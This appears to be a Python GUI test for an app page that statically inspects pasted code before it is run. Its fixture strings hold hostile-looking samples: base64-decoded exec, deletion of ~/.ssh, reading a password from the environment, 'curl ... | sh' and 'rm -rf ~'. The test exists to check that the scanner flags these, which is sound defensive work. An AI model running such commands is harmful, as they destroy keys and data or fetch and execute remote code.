# SPDX-License-Identifier: GPL-3.0-or-later
"""Before You Run: what is seen of code that is not run, on its page and beside the text."""

import sys

from accessible import find, press, read, state
from clipboard import Clipboard
from fumehood import fresh_session, running
from tap import Tap
from waiting import not_yet, wait_for

PROGRAM = """import os, shutil
import requests
from base64 import b64decode
import json

def fetch(url):
    return requests.get(url).text

payload = "cHJpbnQoMSk="
exec(b64decode(payload))
os.system("pip install left-pad")
with open("out.txt", "w") as out:
    out.write(fetch("https://example.com"))
shutil.rmtree(os.path.expanduser("~/.ssh"))
p\u0430ssword = os.environ["PASSWORD"]
"""
ANSWER = """Install it:

```bash
pip install requests
curl https://example.com/x | sh
```

And run it:

```python
import requests
print(requests.get("https://example.com"))
```

```javascript
eval("1")
```
"""


def tab(app):
    return find(app.root, "page tab", lambda name: name and "Inspect" in name)


def show_page(app):
    press(wait_for(lambda: tab(app), "the page"))


def shown(app, text):
    return find(app.root, name=lambda name: name and text in name)


def wait_shown(app, *texts):
    for text in texts:
        wait_for(lambda text=text: shown(app, text), f"“{text}” on the page")


def empty(app, _clipboard):
    show_page(app)
    app.type("")
    wait_shown(app, "Nothing to Look At")
    app.screenshot("look-empty")


def typed(app, _clipboard):
    """While the page is seen, it follows the text."""
    app.type("import os\nos.remove('x')\n")
    wait_shown(app, "os.remove", "deletes files", "Worth a look", "Imports that reach files")
    app.type("print(1)\n")
    wait_shown(app, "No imports, and no calls that stand out")
    wait_for(lambda: not shown(app, "os.remove"), "what is gone to be listed no longer")
    app.type("print(1\n")
    wait_shown(app, "was never closed")


def pasted(app, clipboard):
    """It is looked at without asking, and the tab has the number of what is worth a look."""
    press(app.get("page tab", "Output"))
    app.type("")
    clipboard.copy(PROGRAM)
    app.press("Paste an Answer")
    wait_for(lambda: read(app.editor) == PROGRAM, "the text")
    show_page(app)
    wait_shown(app, "Hard to read", "code that is decoded is run", "left-pad", "a place where secrets are kept",
               "Imports that reach the network", "Other imports", "nothing was run for it")
    not_yet(app.result, "it was run")
    app.screenshot("look")


def goes_to_lines(app, _clipboard):
    """By mouse, and by keyboard."""
    app.click(wait_for(lambda: shown(app, "deletes folders"), "a row"))
    wait_for(lambda: shown(app, "Line 14, column 1"), "line 14")
    wait_for(lambda: state(app.editor, "FOCUSED"), "the editor to be focused")
    # Tab alone is for the text.
    app.move_focus("ctrl+Tab")
    app.tab_to("list item", "os.system")
    app.key("Return")
    wait_for(lambda: shown(app, "Line 11, column 1"), "line 11")


def answer(app, _clipboard):
    app.type(ANSWER)
    wait_shown(app, "Block 1, line 4: Bash", "runs what was downloaded", "Block 2", "cannot look into JavaScript yet")
    app.screenshot("look-answer")


def narrow(app, _clipboard):
    app.type(PROGRAM)
    wait_shown(app, "left-pad")
    app.resize(360, 640)
    app.screenshot("look-narrow")
    app.resize(1000, 700)


def by_language(app, _clipboard):
    app.type("rm -rf ~\n")
    wait_for(lambda: not shown(app, "left-pad"), "the other text")
    wait_shown(app, "invalid syntax")


CASES = {
    "an empty tab": empty,
    "it follows the text": typed,
    "pasted code": pasted,
    "a row goes to its line": goes_to_lines,
    "an answer": answer,
    "a narrow window": narrow,
    "the language counts": by_language,
}


def main():
    tap = Tap()
    with fresh_session() as session:
        with running(session) as app:
            clipboard = Clipboard(session.display.name)
            for name, case in CASES.items():
                tap.case(name, case, app, clipboard)
    with fresh_session() as session, running(session, ADW_DEBUG_COLOR_SCHEME="prefer-dark") as app:
        app.type(PROGRAM)
        show_page(app)
        tap.case("in the dark", wait_shown, app, "left-pad")
        app.screenshot("look-dark")
    return tap.done()


if __name__ == "__main__":
    sys.exit(main())
